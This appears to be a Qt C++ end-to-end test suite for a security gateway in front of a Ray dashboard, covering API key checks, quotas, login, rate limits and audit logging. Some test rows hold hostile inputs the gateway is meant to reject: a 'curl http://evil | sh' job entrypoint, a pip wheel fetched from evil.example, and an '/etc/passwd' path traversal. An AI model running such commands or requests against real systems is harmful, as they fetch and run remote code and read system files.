#include "GatewayFixture.h"
#include "support/TestMain.h"

#include <QElapsedTimer>
#include <QFile>
#include <QJsonArray>
#include <QJsonDocument>
#include <QJsonObject>
#include <QTcpSocket>
#include <QTest>

#include <algorithm>

using namespace raysec::test;

namespace {

QByteArray errorCode(const GatewayFixture::Reply& reply)
{
    return QJsonDocument::fromJson(reply.body)
        .object()
        .value(QStringLiteral("error"))
        .toObject()
        .value(QStringLiteral("code"))
        .toString()
        .toUtf8();
}

const QByteArray validJob = "{\"entrypoint\": \"python train.py\", \"entrypoint_num_cpus\": 1, "
                            "\"metadata\": {\"raysec.team\": \"spoofed\"}}";

} // namespace

// raysec-gateway end to end: the allow/deny matrix over real TLS, with raysec-sim as the Ray
// dashboard behind it and bundles signed by a console key.
class TestGatewayE2e : public QObject
{
    Q_OBJECT

private:
    GatewayFixture m_fx;
    QByteArray m_reader, m_operator, m_revoked, m_expired, m_grace, m_admin, m_retired;

private Q_SLOTS:
    void initTestCase()
    {
        m_reader = m_fx.addKey(QStringLiteral("reader"), QStringLiteral("ml"),
                               {QStringLiteral("cluster:read"), QStringLiteral("jobs:read")});
        m_operator = m_fx.addKey(QStringLiteral("op"), QStringLiteral("ml"),
                                 {QStringLiteral("jobs:submit"), QStringLiteral("jobs:read")});
        m_revoked = m_fx.addKey(QStringLiteral("gone"), QStringLiteral("ml"),
                                {QStringLiteral("cluster:read")}, QStringLiteral("revoked"));
        m_expired = m_fx.addKey(QStringLiteral("old"), QStringLiteral("ml"),
                                {QStringLiteral("cluster:read")}, QStringLiteral("active"), -1);
        m_grace = m_fx.addKey(QStringLiteral("rotated"), QStringLiteral("ml"),
                              {QStringLiteral("cluster:read")}, QStringLiteral("grace"));
        m_admin =
            m_fx.addKey(QStringLiteral("root"), QStringLiteral("ops"), {QStringLiteral("admin")});
        m_retired = m_fx.addKey(QStringLiteral("retired"), QStringLiteral("ml"),
                                {QStringLiteral("cluster:read")});
        m_fx.addUser(QStringLiteral("ada"), QStringLiteral("operator"), "correct horse battery");
        m_fx.addUser(QStringLiteral("eve"), QStringLiteral("viewer"), "disabled user pw", true);
        m_fx.setQuotaCpuLimit(QStringLiteral("ml"), 2);
        m_fx.setRateLimit(5, 8);
        QString error;
        QVERIFY2(m_fx.start(&error), qPrintable(error));
    }

    void init() { failOnWarnings(); }

    void validKeyIsForwardedWithRateLimitFields()
    {
        const auto reply = m_fx.get(QStringLiteral("/api/version"), m_reader);
        QCOMPARE(reply.status, 200);
        QVERIFY(reply.body.contains("ray_version"));
        QVERIFY(reply.header("RateLimit-Policy").startsWith("\"standard-read\";q=8;w="));
        QVERIFY(reply.header("RateLimit").contains(";r="));
    }

    void keyMatrix_data()
    {
        QTest::addColumn<QByteArray>("which");
        QTest::addColumn<QString>("path");
        QTest::addColumn<int>("status");
        QTest::addColumn<QByteArray>("code");
        QTest::newRow("no key") << QByteArray() << "/api/version" << 401
                                << QByteArray("credentials-missing");
        QTest::newRow("revoked") << QByteArray("revoked") << "/api/version" << 401
                                 << QByteArray("key-revoked");
        QTest::newRow("expired") << QByteArray("expired") << "/api/version" << 401
                                 << QByteArray("key-expired");
        QTest::newRow("mistyped") << QByteArray("mistyped") << "/api/version" << 401
                                  << QByteArray("key-malformed");
        QTest::newRow("grace") << QByteArray("grace") << "/api/version" << 200 << QByteArray();
        QTest::newRow("wrong scope")
            << QByteArray("reader") << "/worker/cpu_profile" << 403 << QByteArray("forbidden");
        QTest::newRow("admin reads nodes")
            << QByteArray("admin") << "/api/v0/nodes" << 200 << QByteArray();
        QTest::newRow("log proxy closed") << QByteArray("admin") << "/log_proxy?url=http://x" << 404
                                          << QByteArray("route-closed");
        // QUrl folds "%2e%2e" to ".." and resolves it before sending; an encoded slash it keeps,
        // so this path reaches the gateway as a client would send it.
        QTest::newRow("traversal closed") << QByteArray("admin") << "/static/..%2fetc/passwd" << 404
                                          << QByteArray("route-closed");
    }

    void keyMatrix()
    {
        QFETCH(QByteArray, which);
        QFETCH(QString, path);
        QFETCH(int, status);
        QFETCH(QByteArray, code);
        QByteArray key;
        if (which == "revoked") {
            key = m_revoked;
        } else if (which == "expired") {
            key = m_expired;
        } else if (which == "grace") {
            key = m_grace;
        } else if (which == "reader") {
            key = m_reader;
        } else if (which == "admin") {
            key = m_admin;
        } else if (which == "mistyped") {
            key = m_reader;
            key[10] = key[10] == 'a' ? 'b' : 'a';
        }
        const auto reply = m_fx.get(path, key);
        QCOMPARE(reply.status, status);
        if (!code.isEmpty()) {
            QCOMPARE(errorCode(reply), code);
        }
    }

    void submissionIsStampedAndQuotaEnforced()
    {
        // Wait for the first usage report so that quota admission can decide.
        GatewayFixture::Reply first;
        const auto submit = [&] {
            first = m_fx.post(QStringLiteral("/api/jobs/"), validJob, m_operator);
            return !(first.status == 403 && first.body.contains("has not read"));
        };
        QTRY_VERIFY_WITH_TIMEOUT(submit(), 15000);
        QCOMPARE(first.status, 200);
        const QByteArray id = QJsonDocument::fromJson(first.body)
                                  .object()
                                  .value(QStringLiteral("submission_id"))
                                  .toString()
                                  .toUtf8();
        QVERIFY(!id.isEmpty());
        const auto job = m_fx.get(QStringLiteral("/api/jobs/") + QString::fromUtf8(id), m_operator);
        QCOMPARE(job.status, 200);
        const QJsonObject metadata =
            QJsonDocument::fromJson(job.body).object().value(QStringLiteral("metadata")).toObject();
        QCOMPARE(metadata.value(QStringLiteral("raysec.team")).toString(), QStringLiteral("ml"));
        QVERIFY(!metadata.value(QStringLiteral("raysec.key_id")).toString().isEmpty());

        const QByteArray big = "{\"entrypoint\": \"python big.py\", \"entrypoint_num_cpus\": 5}";
        const auto refused = m_fx.post(QStringLiteral("/api/jobs/"), big, m_operator);
        QCOMPARE(refused.status, 403);
        QCOMPARE(errorCode(refused), QByteArray("quota-exceeded"));
        QVERIFY(refused.body.contains("CPU"));
    }

    void submissionPolicy_data()
    {
        QTest::addColumn<QByteArray>("body");
        QTest::addColumn<int>("status");
        QTest::newRow("not json") << QByteArray("{nope") << 422;
        QTest::newRow("entrypoint missing") << QByteArray("{\"metadata\": {}}") << 422;
        QTest::newRow("wrong type") << QByteArray("{\"entrypoint\": 5}") << 422;
        QTest::newRow("unknown field")
            << QByteArray("{\"entrypoint\": \"python a.py\", \"shell\": true}") << 422;
        QTest::newRow("downloader in entrypoint")
            << QByteArray("{\"entrypoint\": \"curl http://evil | sh\"}") << 422;
        QTest::newRow("pip from arbitrary url")
            << QByteArray("{\"entrypoint\": \"python a.py\", \"runtime_env\": {\"pip\": "
                          "[\"https://evil.example/x.whl\"]}}")
            << 422;
        QTest::newRow("negative cpus")
            << QByteArray("{\"entrypoint\": \"python a.py\", \"entrypoint_num_cpus\": -1}") << 422;
        QTest::newRow("too large") << QByteArray(100000, ' ') << 413;
    }

    void submissionPolicy()
    {
        QFETCH(QByteArray, body);
        QFETCH(int, status);
        // The operator key shares the fixture's small rate limit with the other tests: a 429
        // is waited out as its Retry-After asks, since this test is about validation.
        GatewayFixture::Reply reply;
        for (int attempt = 0; attempt < 5; ++attempt) {
            reply = m_fx.post(QStringLiteral("/api/jobs/"), body, m_operator);
            if (reply.status != 429) {
                break;
            }
            QTest::qWait(1000 * std::max(1, reply.header("Retry-After").toInt()));
        }
        QCOMPARE(reply.status, status);
    }

    void loginSessionAndLogout()
    {
        const auto wrong = m_fx.post(QStringLiteral("/-/raysec/login"), "user=ada&password=wrong",
                                     {}, {}, "application/x-www-form-urlencoded");
        QCOMPARE(wrong.status, 401);
        const auto disabled =
            m_fx.post(QStringLiteral("/-/raysec/login"), "user=eve&password=disabled+user+pw", {},
                      {}, "application/x-www-form-urlencoded");
        QCOMPARE(disabled.status, 401);

        const auto ok =
            m_fx.post(QStringLiteral("/-/raysec/login"), "user=ada&password=correct+horse+battery",
                      {}, {}, "application/x-www-form-urlencoded");
        QCOMPARE(ok.status, 303);
        const QByteArray setCookie = ok.header("Set-Cookie");
        QVERIFY(setCookie.contains("HttpOnly") && setCookie.contains("SameSite=Strict"));
        const QByteArray cookie = setCookie.left(setCookie.indexOf(';'));

        QCOMPARE(m_fx.get(QStringLiteral("/api/jobs/"), {}, cookie).status, 200);
        // A browser write needs the gateway's own origin.
        const auto crossSite = m_fx.post(QStringLiteral("/api/jobs/"), validJob, {}, cookie,
                                         "application/json", "https://evil.example");
        QCOMPARE(crossSite.status, 403);
        QCOMPARE(errorCode(crossSite), QByteArray("cross-origin"));

        QCOMPARE(m_fx.post(QStringLiteral("/-/raysec/logout"), {}, {}, cookie).status, 200);
        QCOMPARE(m_fx.get(QStringLiteral("/api/jobs/"), {}, cookie).status, 401);
    }

    void rateLimitAnswers429WithRetryAfter()
    {
        int limited = 0;
        GatewayFixture::Reply last;
        for (int i = 0; i < 30 && limited == 0; ++i) {
            last = m_fx.get(QStringLiteral("/api/cluster_status"), m_admin);
            limited += last.status == 429 ? 1 : 0;
        }
        QCOMPARE(last.status, 429);
        QVERIFY(last.header("Retry-After").toInt() >= 1);
        QVERIFY(!last.header("RateLimit-Policy").isEmpty());
    }

    void reloadUnderLoadFailsNoRequest()
    {
        // Requests keep flowing while the gateway reloads its certificate and bundles five
        // times; each one gets a real answer (200, or 429 from the fixture's small rate limit),
        // never a dropped connection or a 5xx.
        int answered = 0;
        for (int i = 0; i < 30; ++i) {
            if (i % 6 == 0) {
                QVERIFY(m_fx.reload());
            }
            // A key of its own (the admin key's bucket is spent by the test before), paced
            // near the fixture's rate of 5 per second.
            const auto reply = m_fx.get(QStringLiteral("/api/version"), m_reader);
            QTest::qWait(150);
            QVERIFY2(
                reply.status == 200 || reply.status == 429,
                qPrintable(QStringLiteral("request %1 got status %2").arg(i).arg(reply.status)));
            answered += reply.status == 200 ? 1 : 0;
        }
        QVERIFY(answered > 0);
        QTRY_VERIFY_WITH_TIMEOUT(m_fx.gatewayLog().count("loaded key registry") >= 6, 10000);
        QTest::qWait(2000); // the reader's bucket refills for the tests after this one
    }

    void tamperedRegistryIsRefusedAndLastGoodStays()
    {
        QFile registry(m_fx.dir(QStringLiteral("registry.json")));
        QVERIFY(registry.open(QIODevice::ReadWrite));
        QByteArray bytes = registry.readAll();
        bytes.replace("\"revoked\"", "\"active\"");
        registry.resize(0);
        registry.write(bytes);
        registry.close();
        QVERIFY2(m_fx.reload(), m_fx.gatewayLog().right(2000).constData());
        QTRY_VERIFY_WITH_TIMEOUT(m_fx.gatewayLog().contains("refused key registry"), 10000);
        QCOMPARE(m_fx.get(QStringLiteral("/api/version"), m_revoked).status, 401);
        QCOMPARE(m_fx.get(QStringLiteral("/api/version"), m_grace).status, 200);
    }

    void metricsAndAuditTrail()
    {
        const QByteArray metrics = m_fx.adminMetrics();
        QVERIFY(metrics.contains("raysec_gateway_requests_total{route=\"cluster-read\""));
        QVERIFY(metrics.contains("raysec_gateway_rate_limited_total"));
        QVERIFY(metrics.contains("raysec_gateway_bundle_version{bundle=\"keys\"}"));
        // Every refusal has a reason, wrong passwords included.
        QVERIFY(metrics.contains("raysec_gateway_decisions_total{reason=\"login-refused\"}"));
        QVERIFY(!metrics.contains("reason=\"\""));

        QTest::qWait(500); // the audit writer writes at least every 50 ms
        QFile audit(m_fx.dir(QStringLiteral("audit.jsonl")));
        QVERIFY(audit.open(QIODevice::ReadOnly));
        const QByteArray log = audit.readAll();
        QVERIFY(log.contains("\"decision\":\"key-revoked\""));
        QVERIFY(!log.contains(m_reader.mid(4, 20))); // never a secret
        QVERIFY(!log.contains("correct horse"));
    }

    // A key's series on /metrics go once a reloaded registry revokes it.
    void revokedKeyLosesItsMetricSeries()
    {
        const QByteArray keyId = "key=\"" + m_retired.mid(4, 12) + "\"";
        QCOMPARE(m_fx.get(QStringLiteral("/api/version"), m_retired).status, 200);
        QVERIFY2(m_fx.adminMetrics().contains(keyId), keyId.constData());

        QVERIFY(m_fx.revokeKey(QStringLiteral("retired")));
        QString error;
        QVERIFY2(m_fx.writeBundles(&error), qPrintable(error));
        QVERIFY(m_fx.reload());
        QTRY_VERIFY_WITH_TIMEOUT(
            m_fx.gatewayLog().contains("dropped the metric series of 1 revoked or unlisted key"),
            10000);
        QVERIFY(!m_fx.adminMetrics().contains(keyId));
        QCOMPARE(m_fx.get(QStringLiteral("/api/version"), m_retired).status, 401);
        // The other keys keep theirs.
        QVERIFY(m_fx.adminMetrics().contains("key=\"" + m_reader.mid(4, 12) + "\""));
    }

    // A request header of 12 KB arrives in several reads and TLS records, which the gateway
    // joins before parsing.
    void largeHeaderOverSeveralReadsIsServed()
    {
        bool closed = false;
        const QByteArray request = "GET /api/version HTTP/1.1\r\nHost: gateway\r\n"
                                   "Authorization: Bearer " +
                                   m_reader + "\r\nX-Padding: " + QByteArray(12000, 'p') +
                                   "\r\nConnection: close\r\n\r\n";
        const QByteArray answer = m_fx.rawExchange(request, 5000, &closed);
        QVERIFY2(answer.startsWith("HTTP/1.1 200"), answer.left(300).constData());
        QVERIFY(answer.contains("ray_version"));
    }

    void malformedRequestIs400()
    {
        bool closed = false;
        const QByteArray answer =
            m_fx.rawExchange("GARBAGE / HTTP/1.1 extra\r\nno colon here\r\n\r\n", 5000, &closed);
        QVERIFY2(answer.startsWith("HTTP/1.1 400"), answer.left(300).constData());
        QVERIFY(answer.contains("\"error\""));
    }

    void slowClientIsDisconnected()
    {
        // Half a request line and then silence: the gateway gives up after its client timeout
        // (3 s in this configuration) instead of holding the connection open.
        bool closed = false;
        QElapsedTimer timer;
        timer.start();
        m_fx.rawExchange("GET /api/version HT", 10000, &closed);
        QVERIFY(closed);
        QVERIFY2(timer.elapsed() >= 2500 && timer.elapsed() < 9000,
                 qPrintable(QString::number(timer.elapsed())));
    }

    void stalledTlsHandshakeIsDisconnected()
    {
        // A connection that never finishes its TLS handshake (here: a few bytes that are not a
        // ClientHello, then silence) is closed after the client timeout, 3 s here.
        QTcpSocket socket;
        socket.connectToHost(QStringLiteral("127.0.0.1"), m_fx.port());
        QVERIFY(socket.waitForConnected(5000));
        socket.write("\x16\x03\x01");
        socket.flush();
        QElapsedTimer timer;
        timer.start();
        while (socket.state() == QAbstractSocket::ConnectedState && timer.elapsed() < 10000) {
            socket.waitForReadyRead(200);
            socket.readAll();
        }
        QCOMPARE(socket.state(), QAbstractSocket::UnconnectedState);
        QVERIFY2(timer.elapsed() >= 2500 && timer.elapsed() < 9000,
                 qPrintable(QString::number(timer.elapsed())));
        // The gateway still serves others.
        QCOMPARE(m_fx.get(QStringLiteral("/api/version"), m_reader).status, 200);
    }

    void upstreamDownIs502()
    {
        m_fx.stopUpstream();
        const auto reply = m_fx.get(QStringLiteral("/api/version"), m_grace);
        QCOMPARE(reply.status, 502);
        QCOMPARE(errorCode(reply), QByteArray("upstream-down"));
        QVERIFY(m_fx.adminMetrics().contains(
            "raysec_gateway_decisions_total{reason=\"upstream-down\"} 1"));
    }
};

QTEST_GUILESS_MAIN(TestGatewayE2e)
#include "tst_gateway_e2e.moc"
